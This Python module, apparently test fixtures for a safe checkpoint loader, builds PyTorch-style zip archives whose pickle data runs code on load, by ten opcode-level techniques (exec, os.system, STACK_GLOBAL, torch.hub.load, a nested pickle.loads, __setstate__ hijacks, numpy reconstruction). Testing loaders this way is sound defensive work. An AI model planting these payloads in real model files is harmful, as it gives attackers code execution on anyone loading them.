"""Checkpoints that run code when a reader is too trusting, each another way."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable
from pathlib import Path


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def name(module: str, attribute: str) -> bytes:
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def called(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def by_getattr(command: str) -> bytes:
    """``exec`` found by ``getattr``, given to an object as its ``__setstate__``, and called so."""
    finder = name("builtins", "getattr")
    execute = called(finder, called(finder, finder, text("__self__")), text("exec"))
    buffer = name("mmengine.logging.history_buffer", "HistoryBuffer") + b")R"
    return buffer + b"}(" + text("__setstate__") + execute + b"ub" + text(command) + b"b"


def by_system(command: str) -> bytes:
    return called(name("os", "system"), text("touch ran"))


def by_exec(command: str) -> bytes:
    return called(name("builtins", "exec"), text(command))


def by_stack_global(command: str) -> bytes:
    return text("builtins") + text("exec") + b"\x93(" + text(command) + b"tR"


def by_instance(command: str) -> bytes:
    return b"(" + text(command) + b"ibuiltins\nexec\n"


def by_hub(command: str) -> bytes:
    return called(name("torch.hub", "load"), text("folder"), text("entry"))


def by_loading_again(command: str) -> bytes:
    """A pickle inside the pickle, for a reader that is less careful."""
    inner = b"\x80\x02" + by_exec(command) + b"."
    data = b"B" + struct.pack("<I", len(inner)) + inner
    return called(name("pickle", "loads"), data)


def by_state_of_a_class(command: str) -> bytes:
    """Attributes for the class of the tensors' rebuilding, and then an object of it."""
    rebuild = name("torch._utils", "_rebuild_parameter")
    slots = b"}(" + text("__new__") + name("builtins", "exec") + b"u"
    return rebuild + b"(N" + slots + b"tb" + b"(" + text(command) + b"tR"


def by_ordered_dict(command: str) -> bytes:
    made = name("collections", "OrderedDict") + b")R"
    state = b"}(" + text("__setstate__") + name("builtins", "exec") + b"ub"
    return made + state + text(command) + b"b"


def by_numpy(command: str) -> bytes:
    array = called(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"))
    return array + b"(" + b"K\x01" + by_exec(command) + b"tb"


ATTACKS: list[Callable[[str], bytes]] = [
    by_getattr,
    by_system,
    by_exec,
    by_stack_global,
    by_instance,
    by_hub,
    by_loading_again,
    by_state_of_a_class,
    by_ordered_dict,
    by_numpy,
]


def archive(path: Path, attack: bytes, key: str = "state_dict", **members: bytes) -> Path:
    content = b"\x80\x02}(" + text(key) + b"}" + text("x") + attack + b"su."
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("archive/data.pkl", content)
        file.writestr("archive/byteorder", "little")
        file.writestr("archive/version", "3\n")
        for member, data in members.items():
            file.writestr(f"archive/{member}", data)
    return path
